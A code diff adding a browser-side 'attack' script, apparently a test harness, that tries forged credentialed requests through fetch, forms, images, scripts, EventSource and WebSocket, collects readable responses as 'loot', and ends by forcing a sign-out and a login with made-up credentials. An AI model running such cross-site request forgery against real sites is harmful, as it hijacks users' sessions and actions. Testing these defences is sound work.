@@ -1,0 +1,66 @@
+// Runs in a page: every way a page has to send something to another origin, and to read what comes back.
+globalThis.attack = async ({ target, name, header, places }) => {
+  const loot = { read: [], tried: [] }
+  const note = (way, text) => {
+    loot.tried.push(way)
+    if (text) loot.read.push(`${way}: ${text.slice(0, 80)}`)
+  }
+  const get = async (mode, path, init = {}) => {
+    const answer = await fetch(target + path, { mode, credentials: 'include', ...init }).catch(() => undefined)
+    const text = await answer?.text().catch(() => '')
+    return answer?.ok ? text : ''
+  }
+  const told = (thing, good, bad, word) =>
+    new Promise((resolve) => {
+      thing[good] = () => resolve(word)
+      thing[bad] = () => resolve('')
+    })
+
+  for (const place of places) {
+    for (const mode of ['no-cors', 'cors']) {
+      const body = new URLSearchParams({ name })
+      note(`fetch ${mode} POST ${place}`, await get(mode, `${place}/team`, { method: 'POST', body }))
+      note(`fetch ${mode} GET ${place}`, await get(mode, `${place}/me`))
+    }
+    const headers = { 'content-type': 'application/json', ...(header && { 'x-chorus-console': '1' }) }
+    const asked = { method: 'POST', body: JSON.stringify({ name }), headers }
+    note(`fetch with a question beforehand ${place}`, await get('cors', `${place}/team`, asked))
+
+    const frame = document.createElement('iframe')
+    frame.name = `frame${place.length}`
+    document.body.append(frame)
+    const form = document.body.appendChild(document.createElement('form'))
+    Object.assign(form, { method: 'post', action: `${target}${place}/team`, target: frame.name })
+    const input = form.appendChild(document.createElement('input'))
+    Object.assign(input, { name: 'name', value: name })
+    const arrived = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
+    form.submit()
+    await arrived
+    let shown = ''
+    try {
+      shown = frame.contentDocument?.body.innerText ?? ''
+    } catch {}
+    note(`form ${place}`, shown.includes('"Result":true') ? shown : '')
+
+    const picture = new Image()
+    const seen = told(picture, 'onload', 'onerror', 'a picture')
+    picture.src = `${target}${place}/me`
+    note(`image ${place}`, await seen)
+
+    const script = document.createElement('script')
+    const run = told(script, 'onload', 'onerror', 'a script')
+    script.src = `${target}${place}/me`
+    document.body.append(script)
+    note(`script ${place}`, await run)
+
+    const source = new EventSource(`${target}${place}/me`, { withCredentials: true })
+    note(`EventSource ${place}`, await told(source, 'onopen', 'onerror', 'a feed'))
+    source.close()
+
+    const socket = new WebSocket(`${target.replace('http', 'ws')}${place}/me`)
+    note(`WebSocket ${place}`, await told(socket, 'onopen', 'onerror', 'a socket'))
+  }
+  await get('no-cors', '/app/sign-out', { method: 'POST' })
+  await get('no-cors', '/app/api/session', { method: 'POST', body: new URLSearchParams({ email: 'x', password: 'y' }) })
+  return loot
+}
